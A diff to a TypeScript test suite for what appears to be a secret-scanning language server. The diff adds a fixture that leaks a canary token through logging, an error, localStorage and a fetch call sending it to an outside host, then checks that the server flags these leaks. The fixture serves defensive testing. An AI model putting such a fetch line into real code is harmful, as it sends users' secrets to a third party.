@@ -37,6 +37,7 @@ describe('canary: the language server', function () {
     'pay.js': ['javascript', `const pay = require('pay');\nmodule.exports = pay('${canary.value}');\n`],
     'pay.py': ['python', `import pay\nTOKEN = "${canary.value}"\npay.use(TOKEN, f"Bearer ${canary.value}")\n`],
     'config.yaml': ['yaml', `pay:\n  key: ${canary.value}\n  url: https://user:${canary.value}@example.invalid/?token=${canary.value}\n`],
+    'leak.js': ['javascript', `const one = '${canary.value}';\nconsole.log(one, \`x ${canary.value}\`);\nthrow new Error('no ' + one);\nlocalStorage.setItem('${canary.value}', one);\nfetch('http://a.acme.io/?k=' + one);\nconst ${canary.value}_token = 1;\nconsole.log(${canary.value}_token);\n`],
     'unclosed.ts': ['typescript', `const a = \`\${'${canary.value}\nconst b = "${canary.value}`],
     'keyward.env': ['keyward', `# ${canary.value}\nPAY_KEY=${canary.value}\n${canary.value}\n${canary.value}=x\nB=keyward://${canary.value}\n`],
   };
@@ -90,12 +91,13 @@ describe('canary: the language server', function () {
   /** Asks everything that an editor asks, at every place of the value. */
   async function useEverything(): Promise<void> {
     const { server, connection } = await open();
-    let findings = 0;
+    let [findings, patterns] = [0, 0];
     for (const name of Object.keys(files)) {
       const textDocument = { uri: uri(name) };
       const report = await connection.sendRequest<DocumentDiagnosticReport>('textDocument/diagnostic', { textDocument });
       const diagnostics: readonly Diagnostic[] = report.kind === 'full' ? report.items : [];
       findings += diagnostics.length;
+      patterns += diagnostics.filter(({ code }) => String(code).startsWith('keyward/secret-in-')).length;
       for (const { range, data } of diagnostics) {
         await connection.sendRequest('textDocument/hover', { textDocument, position: range.start });
         await connection.sendRequest<CodeAction[]>('textDocument/codeAction', { textDocument, range, context: { diagnostics } });
@@ -103,6 +105,7 @@ describe('canary: the language server', function () {
       }
     }
     assert(findings >= 5, `the canary is not noticed (${findings} findings): nothing would be proved`);
+    assert(patterns >= 3, `the canary's leaks are not noticed (${patterns})`);
     const scanned = await connection.sendRequest<ScanWorkspaceResult>(SCAN_WORKSPACE, { folders: [], workDoneToken: 'w' });
     assert(scanned.files.length >= 3);
     await type(connection);
@@ -183,6 +186,7 @@ describe('canary: the language server', function () {
   });
 });
 
+/** A value, and no code that is unsafe with one: only a value can be moved. */
 function isFinding(data: unknown): data is DiagnosticData {
-  return typeof data === 'object' && data !== null && 'ruleId' in data && 'fingerprint' in data;
+  return typeof data === 'object' && data !== null && 'kind' in data && data.kind === 'secret' && 'ruleId' in data && 'fingerprint' in data;
 }
